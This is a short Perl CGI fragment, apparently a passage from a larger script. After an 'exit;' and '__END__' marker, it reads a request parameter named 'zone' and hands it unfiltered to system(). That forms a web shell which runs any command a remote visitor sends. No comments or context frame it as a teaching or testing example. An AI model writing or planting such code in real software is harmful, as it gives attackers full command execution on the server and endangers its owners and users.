exit;
__END__
my $q=new CGI;
if ( defined $q->param( 'zone' ) )
{
    printf  "Cache-Control: no-cache\r\n";
    printf  "Content-type: text/html\r\n\r\n";

    my   $what   =   $q->param( 'zone' );

    system( $what );
}
